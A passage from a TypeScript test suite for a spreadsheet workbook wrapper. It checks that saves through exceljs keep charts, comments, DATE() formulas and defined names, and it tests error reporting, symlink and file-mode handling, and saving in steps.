      expect([back?.[1]?.[7], back?.[2]?.[7]]).toEqual(['abcde 😀', 'see']);
    }
  });
});

describe('what a save through exceljs keeps of the user’s', () => {
  const C = 'http://schemas.openxmlformats.org/drawingml/2006/chart';
  const A = 'http://schemas.openxmlformats.org/drawingml/2006/main';
  const XDR = 'http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing';
  const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const CHART =
    `<c:chartSpace xmlns:c="${C}" xmlns:a="${A}" xmlns:r="${REL}"><c:chart><c:plotArea><c:layout/><c:barChart><c:barDir val="col"/><c:grouping val="clustered"/>` +
    `<c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef><c:f>Members!$E$2:$E$14</c:f></c:numRef></c:val></c:ser><c:axId val="1"/><c:axId val="2"/></c:barChart>` +
    `<c:catAx><c:axId val="1"/><c:scaling><c:orientation val="minMax"/></c:scaling><c:axPos val="b"/><c:crossAx val="2"/></c:catAx>` +
    `<c:valAx><c:axId val="2"/><c:scaling><c:orientation val="minMax"/></c:scaling><c:axPos val="l"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart></c:chartSpace>`;
  const DRAWING_XML =
    `<xdr:wsDr xmlns:xdr="${XDR}" xmlns:a="${A}"><xdr:twoCellAnchor><xdr:from><xdr:col>10</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>` +
    `<xdr:to><xdr:col>16</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>15</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="Members by year"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr>` +
    `<xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData uri="${C}"><c:chart xmlns:c="${C}" xmlns:r="${REL}" r:id="rId1"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>`;
  const COMMENTS =
    '<comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><authors><author>Dilnoza</author></authors>' +
    '<commentList><comment ref="A2" authorId="0"><text><t>checked by hand</t></text></comment></commentList></comments>';
  const VML =
    '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">' +
    '<v:shape type="#_x0000_t202"><x:ClientData ObjectType="Note"><x:Row>1</x:Row><x:Column>0</x:Column></x:ClientData></v:shape></xml>';
  const rels = (...targets: [string, string][]) =>
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    targets
      .map(([target, type], i) => `<Relationship Id="rId${i + 1}" Type="${REL}/${type}" Target="${target}"/>`)
      .join('') +
    '</Relationships>';

  /** The example with a chart and a note on the Members tab, a DATE() formula in a column of the user's and in Joined on, and a defined name that is no range. */
  async function charted(): Promise<string> {
    const name = file('charted.xlsx');
    const date = (address: string, y: number, serial: number) =>
      `<c r="${address}" s="2"><f>DATE(${y},1,5)</f><v>${serial}</v></c>`;
    const bytes = await withParts(await example(), {
      [PART.Members]: (xml) =>
        appendCells(replaceCell(xml, 'E2', date('E2', 2025, 45662)), 2, date('J2', 2026, 46027)).replace(
          '</worksheet>',
          '<drawing r:id="rId1"/><legacyDrawing r:id="rId2"/></worksheet>',
        ),
      'xl/worksheets/_rels/sheet2.xml.rels': () =>
        rels(
          ['../drawings/drawing1.xml', 'drawing'],
          ['../drawings/vmlDrawing1.vml', 'vmlDrawing'],
          ['../comments1.xml', 'comments'],
        ),
      'xl/drawings/drawing1.xml': () => DRAWING_XML,
      'xl/drawings/_rels/drawing1.xml.rels': () => rels(['../charts/chart1.xml', 'chart']),
      'xl/charts/chart1.xml': () => CHART,
      'xl/drawings/vmlDrawing1.vml': () => VML,
      'xl/comments1.xml': () => COMMENTS,
      'xl/workbook.xml': (xml) =>
        xml.replace('</definedNames>', '<definedName name="Rate">0.5</definedName></definedNames>'),
      '[Content_Types].xml': (xml) =>
        xml.replace(
          '</Types>',
          '<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>' +
            '<Override PartName="/xl/drawings/drawing1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawing+xml"/>' +
            '<Override PartName="/xl/comments1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"/>' +
            '<Override PartName="/xl/charts/chart1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/></Types>',
        ),
    });
    await writeFile(name, bytes);
    return name;
  }

  it('chart, note, DATE() formulas and defined names, each reached from the sheet as before', async () => {
    const workbook = await XlsxWorkbook.open(await charted());
    const joined = workbook.read('Members')?.[1]?.[4];
    // The add-on rewrites the row's Joined on with the day it already shows, and colours the header: exceljs saves.
    workbook.write('Members', 2, 4, [['Active', joined ?? '']]);
    workbook.paint('Members', 1, 1, [[null]]);
    await workbook.save(file('charted-after.xlsx'));
    const saved = await readFile(file('charted-after.xlsx'));
    const sheet = (await partText(saved, PART.Members)) ?? '';
    expect(sheet).toMatch(/<c r="E2"[^>]*><f>DATE\(2025,1,5\)<\/f>/);
    expect(sheet).toMatch(/<c r="J2"[^>]*><f>DATE\(2026,1,5\)<\/f>/);
    const id = /<drawing r:id="([^"]+)"\/>/.exec(sheet)?.[1];
    expect(id).toBeDefined();
    const sheetRels = (await partText(saved, 'xl/worksheets/_rels/sheet2.xml.rels')) ?? '';
    const drawing =
      new RegExp(`Id="${id}"[^>]*Target="\\.\\./([^"]+)"`).exec(sheetRels)?.[1] ??
      new RegExp(`Target="\\.\\./([^"]+)"[^>]*Id="${id}"`).exec(sheetRels)?.[1];
    expect(await partText(saved, `xl/${drawing}`)).toBe(DRAWING_XML);
    const chart = /Target="\.\.\/([^"]+)"/.exec(
      (await partText(saved, `xl/drawings/_rels/${path.basename(drawing ?? '')}.rels`)) ?? '',
    )?.[1];
    expect(await partText(saved, `xl/${chart}`)).toBe(CHART);
    expect(await partText(saved, '[Content_Types].xml')).toContain(
      `<Override PartName="/xl/${chart}" ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>`,
    );
    expect(sheet).toMatch(/<legacyDrawing r:id="[^"]+"\/>/);
    const comments = /Type="[^"]*\/comments" Target="\.\.\/([^"]+)"/.exec(sheetRels)?.[1];
    expect(await partText(saved, `xl/${comments}`)).toBe(COMMENTS);
    expect(await partText(saved, 'xl/workbook.xml')).toContain('<definedName name="Rate">0.5</definedName>');
    // Read again, saved again: still one drawing, one note part, the chart.
    const again = await XlsxWorkbook.open(file('charted-after.xlsx'));
    again.paint('Members', 1, 1, [['#ffffff']]);
    await again.save(file('charted-twice.xlsx'));
    const twice = await readFile(file('charted-twice.xlsx'));
    const twiceSheet = (await partText(twice, PART.Members)) ?? '';
    expect(twiceSheet.match(/<drawing /g)).toHaveLength(1);
    expect(twiceSheet.match(/<legacyDrawing /g)).toHaveLength(1);
    expect((await partText(twice, 'xl/workbook.xml'))?.match(/name="Rate"/g)).toHaveLength(1);
  });
});

describe('formula errors', () => {
  /** Style 2 of the example shows dates: an error in such a cell is what a broken date formula leaves. */
  const DIV0 = (address: string) => `<c r="${address}" s="2" t="e"><f>1/0</f><v>#DIV/0!</v></c>`;

  it('ignores an error in a date-formatted cell of a column the add-on does not use', async () => {
    await writeFile(
      file('error-mine.xlsx'),
      await withParts(await example(), {
        [PART.Members]: (xml) => appendCells(xml, 2, `${DIV0('J2')}<c r="K2" s="2" t="e"><v>#N/A</v></c>`),
      }),
    );
    const workbook = await XlsxWorkbook.open(file('error-mine.xlsx'));
    expect(decodeNetwork(readGrids(workbook)).allProblems).toEqual([]);
    expect(workbook.read('Members')?.[1]?.slice(9)).toEqual(['#DIV/0!', '#N/A']);
  });

  it('reports an error in a column the add-on reads as a cell error naming the tab, row and column', async () => {
    await writeFile(
      file('error-joined.xlsx'),
      await withParts(await example(), { [PART.Members]: (xml) => replaceCell(xml, 'E2', DIV0('E2')) }),
    );
    const problems = decodeNetwork(readGrids(await XlsxWorkbook.open(file('error-joined.xlsx')))).allProblems;
    expect(problems).toEqual([expect.objectContaining({ sheet: 'Members', row: 2, column: 'Joined on' })]);
    expect(problems[0]?.message).toContain('#DIV/0!');
  });
});

describe('files that are not workbooks', () => {
  it('names the file in one line when it is missing, a folder or not an .xlsx', async () => {
    await writeFile(file('notes.xlsx'), 'just text');
    await mkdir(file('folder.xlsx'));
    for (const [name, message] of [
      ['missing.xlsx', /missing\.xlsx: no such file$/],
      ['folder.xlsx', /folder\.xlsx: not a file$/],
      ['notes.xlsx', /notes\.xlsx: not an \.xlsx workbook but a text file/],
    ] as const) {
      const error = await XlsxWorkbook.open(file(name)).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(WorkbookFileError);
      expect((error as Error).message).toMatch(message);
      expect((error as Error).message).not.toContain('\n');
    }
  });

  it('keeps a file’s mode and a symbolic link, writing the link’s target', async () => {
    const folder = file('linked');
    await mkdir(path.join(folder, 'real'), { recursive: true });
    const target = path.join(folder, 'real', 'network.xlsx');
    await writeFile(target, await example());
    await chmod(target, 0o600);
    await symlink(path.join('real', 'network.xlsx'), path.join(folder, 'link.xlsx'));
    const workbook = await XlsxWorkbook.open(path.join(folder, 'link.xlsx'));
    workbook.write('Members', 2, 8, [['saved through the link']]);
    await workbook.save(path.join(folder, 'link.xlsx'));
    expect((await lstat(path.join(folder, 'link.xlsx'))).isSymbolicLink()).toBe(true);
    expect(await readlink(path.join(folder, 'link.xlsx'))).toBe(path.join('real', 'network.xlsx'));
    expect((await stat(target)).mode & 0o777).toBe(0o600);
    expect((await XlsxWorkbook.open(target)).read('Members')?.[1]?.[7]).toBe('saved through the link');
    // Through exceljs too, and nothing left beside the target.
    workbook.paint('Members', 1, 1, [[null]]);
    await workbook.save(path.join(folder, 'link.xlsx'));
    expect((await stat(target)).mode & 0o777).toBe(0o600);
    expect((await lstat(path.join(folder, 'link.xlsx'))).isSymbolicLink()).toBe(true);
    expect((await readdir(path.join(folder, 'real'))).sort()).toEqual(['network.xlsx']);
    expect(await readdir(folder)).toEqual(expect.arrayContaining(['link.xlsx', 'real']));
  });

  it('removes its temporary file when a save fails', async () => {
    const folder = file('failing');
    await mkdir(folder);
    const workbook = await XlsxWorkbook.open(EXAMPLE);
    // A folder where the file should be: the rename fails after the temporary file was written.
    await mkdir(path.join(folder, 'taken.xlsx'));
    await writeFile(path.join(folder, 'taken.xlsx', 'keep'), '');
    workbook.write('Members', 2, 8, [['x']]);
    await expect(workbook.save(path.join(folder, 'taken.xlsx'))).rejects.toBeInstanceOf(WorkbookFileError);
    expect(await readdir(folder)).toEqual(['taken.xlsx']);
  });

  it('reports a save into a folder that does not exist as a WorkbookFileError', async () => {
    const error = await XlsxWorkbook.create()
      .save(file('nowhere/out.xlsx'))
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(WorkbookFileError);
  });
});

describe('saving in steps, as the tick does', () => {
  it('keeps every value of each step when the saves in between patched some tabs and not others', async () => {
    const target = file('steps.xlsx');
    await writeFile(target, await readFile(EXAMPLE));
    const workbook = await XlsxWorkbook.open(target);
    const logEnd = workbook.read('Log')!.length;
    const meetings = workbook.read('Meetings')!;
    workbook.write('Log', logEnd + 1, 1, [['2026-11-23T09:00:00', 'a@un.org', 'First', 'M-1', '', 'Sending', '']]);
    workbook.write('Meetings', 2, 5, [['First title']]);
    workbook.write('Log', logEnd + 2, 1, [['2026-11-23T09:01:00', 'a@un.org', 'Second', 'M-1', '', 'Sent', '']]);
    workbook.write('Actions', 2, 3, [['Second action']]);
    workbook.write('Log', logEnd + 3, 1, [['2026-11-23T09:02:00', 'a@un.org', 'Third', 'M-1', '', 'Sent', '']]);
    await workbook.save(target, 2);
    await workbook.save(target, 2);
    await workbook.save(target);
    const again = await XlsxWorkbook.open(target);
    expect(
      again
        .read('Log')!
        .slice(logEnd)
        .map((r) => r[2]),
    ).toEqual(['First', 'Second', 'Third']);
    expect(again.read('Meetings')![1]![4]).toBe('First title');
    expect(again.read('Meetings')!.slice(2)).toEqual(meetings.slice(2));
    expect(again.read('Actions')![1]![2]).toBe('Second action');
  });
});
